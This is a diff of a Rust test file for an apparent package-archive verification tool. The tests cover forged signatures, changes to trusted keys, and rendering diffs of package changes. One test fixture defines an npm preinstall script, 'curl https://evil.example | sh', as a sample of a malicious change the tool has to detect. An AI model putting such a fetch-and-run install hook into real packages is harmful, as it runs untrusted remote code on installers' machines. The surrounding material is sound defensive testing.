@@ -4,11 +4,33 @@
 #![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]
 #![allow(clippy::disallowed_methods)]
 
+mod disk;
+mod sides;
 mod world;
 
 use serde_json::{Value, json};
-use testkit::{sigstore::Build, tarball::Tarball};
-use world::{NOW, Package, Run, TRUST, World, key};
+use sides::Sides;
+use testkit::{
+    sigstore::{Build, Sigstore},
+    tarball::Tarball,
+};
+use world::{NOW, Package, Run, SEALED, TRUST, World, key, published};
+
+macro_rules! snapshot {
+    ($name:expr, $text:expr) => {
+        insta::with_settings!({
+            snapshot_path => "../snapshots",
+            prepend_module_to_snapshot => false,
+            filters => [
+                // Keys and signatures are made afresh, and with them the length of ECDSA's.
+                (r#""bytes": \d+"#, r#""bytes": "SIZE""#),
+                (r#""sha256": "[0-9a-f]{64}",\n(\s+"sealedAt")"#, "\"sha256\": \"SHA256\",\n$1"),
+                (r"sha256    [0-9a-f]{64}", "sha256    SHA256"),
+                (r"[\d.]+ KiB", "SIZE"),
+            ],
+        }, { insta::assert_snapshot!($name, $text) })
+    };
+}
 
 /// Two archives, `old.sealift` and `new.sealift`, that are compared.
 struct Two {
@@ -289,17 +311,17 @@ fn a_tarball_of_another_package_has_unknown_scripts() {
 #[test]
 fn evidence_that_does_not_verify_ends_with_exit_1() {
     let world = World::new();
-    let (old, new) = (Package::new("a", "1.0.0"), Package::new("a", "1.0.1"));
-    let forged = old.clone().signed(&world.sigstore).signatures;
-    let two = Two::of(world, std::slice::from_ref(&old), &[new]);
-    let world = &two.world;
+    let signed = |version| Package::new("a", version).signed(&world.sigstore);
+    let (unsigned, new, other) = (Package::new("a", "1.0.0"), signed("1.0.1"), signed("1.0.2"));
+    let text = |package: &Package| package.signatures[0]["sig"].as_str().unwrap().to_owned();
+    let (own, forged) = (text(&new), text(&other));
+    let two = Two::of(world, &[unsigned], &[new]);
+    let archive = two.world.path("new.sealift");
     // A signature over another version.
-    let mut parts = world::Parts::of(&world.path("new.sealift"), &key(1));
+    let mut parts = world::Parts::of(&archive, &key(1));
     let record = parts.entries.get_mut("npm/a/1.0.1/registry.json").unwrap();
-    let mut json: Value = serde_json::from_slice(record).unwrap();
-    json["dist"]["signatures"] = json!(forged);
-    *record = json.to_string().into_bytes();
-    parts.seal(&world.path("new.sealift"), &[key(1)]);
+    *record = String::from_utf8(record.clone()).unwrap().replace(&own, &forged).into_bytes();
+    parts.seal(&archive, &[key(1)]);
     let run = two.diff("--format json").refused();
     let found = run.json();
     let refused = &found["new"]["refused"][0];
@@ -341,4 +363,89 @@ fn one_of_several_keys_must_have_sealed_each() {
     parts.seal(&two.world.path("new.sealift"), &[key(2)]);
     two.diff("").refused();
     two.diff("--key second.key.pub").done();
+}
+
+#[test]
+fn trust_that_changed_between_two_archives_is_told() {
+    let mut sides = Sides::new().pinned();
+    sides.sealed(SEALED, "old.sealift").done();
+    let diff = |sides: &Sides, new: &str, more: &str| {
+        let diff = format!("bundle diff old.sealift {new} --key release.key.pub --instance acme");
+        sides.on("gap", &format!("{diff} --at {NOW} {more}")).done()
+    };
+    assert_eq!(diff(&sides, "old.sealift", "-q").stdout, "no package differs\n");
+
+    let mut keys: Value = serde_json::from_slice(&sides.world.read("keys.json")).unwrap();
+    let more: Value = serde_json::from_str(&Sigstore::new(published()).npm_keys_json()).unwrap();
+    keys["keys"].as_array_mut().unwrap().extend(more["keys"].as_array().unwrap().clone());
+    sides.publish(keys.to_string().into_bytes());
+    let at = "--instance acme --at 2026-02-02T00:00:00Z";
+    sides.on("connected", &format!("trust refresh --mirror URL {at}")).done();
+    let fetch = "bundle fetch package-lock.json -o new.sealift --key release.key --no-refresh";
+    let package = Package::new("left-pad", "1.3.0").signed(&sides.world.sigstore);
+    let _registry = sides.world.serve([&package]);
+    sides.on("connected", &format!("{fetch} {at}")).done();
+
+    let found = diff(&sides, "new.sealift", "--format json").json();
+    assert_eq!((&found["differs"], &found["trust"]["differs"]), (&json!(false), &json!(true)));
+    let added: Vec<_> = found["trust"]["added"].as_array().unwrap().iter().collect();
+    assert_eq!(added.len(), 2);
+    assert!(added.iter().all(|it| it["kind"] == "npm key"), "{found:#}");
+    let timestamp = |side: &str| found[side]["trust"][0]["timestamp"].as_u64().unwrap();
+    assert!(timestamp("new") > timestamp("old"), "{found:#}");
+    let said = diff(&sides, "new.sealift", "").stdout;
+    assert!(said.starts_with("no package differs; other trust\n"), "{said}");
+    assert!(
+        said.contains("\nother trust: what the two archives are judged by\n  added npm key "),
+        "{said}"
+    );
+}
+
+#[test]
+fn both_renderings_of_many_changes() {
+    let world = World::new();
+    let sigstore = &world.sigstore;
+    let all = |name: &str, version: &str| package(&world, name, version, &build());
+    let evil = Build {
+        repository_id: "1".into(),
+        owner_id: "2".into(),
+        workflow: ".github/workflows/ci.yml".into(),
+        runner: "self-hosted".into(),
+        ..Build::github("evil/a")
+    };
+    let runs = |version| {
+        let scripts = json!({"scripts": {"postinstall": "node setup.js"}});
+        let tarball = Tarball::with_manifest("test", "runs", version, &scripts);
+        tarball.bundle("inner", "9.0.0", &json!({"scripts": {"install": "make"}})).gzip()
+    };
+    let more = json!({"scripts": {"preinstall": "curl https://evil.example | sh"}});
+    let old = [
+        all("fine", "2.0.0"),
+        all("lost", "1.0.0"),
+        all("stolen", "1.2.0"),
+        Package::new("gained", "1.0.0"),
+        Package::new("gone", "3.0.0"),
+        Package::new("runs", "0.4.0"),
+        Package::new("same", "1.0.0"),
+        Package::new("two", "1.0.0"),
+    ];
+    let new = [
+        all("fine", "2.0.1"),
+        Package::new("lost", "1.0.1").signed(sigstore).published(sigstore),
+        package(&world, "stolen", "1.2.1", &evil),
+        Package::new("gained", "1.1.0").signed(sigstore),
+        with_tarball("more", "1.0.0", manifest("more", "1.0.0", more)),
+        with_tarball("runs", "0.4.1", runs("0.4.1")),
+        with_tarball("same", "1.0.0", manifest("same", "1.0.0", json!({"main": "x.js"}))),
+        Package::new("two", "1.0.0"),
+        Package::new("two", "2.0.0"),
+    ];
+    let two = Two::of(world, &old, &new);
+    let human = two.diff("").done();
+    assert_eq!(human.stderr, "");
+    for line in human.stdout.lines().skip(1) {
+        assert!(line.chars().count() <= 80, "over 80 columns: {line}");
+    }
+    snapshot!("diff", human);
+    snapshot!("diff-json", two.diff("--format json").done());
 }
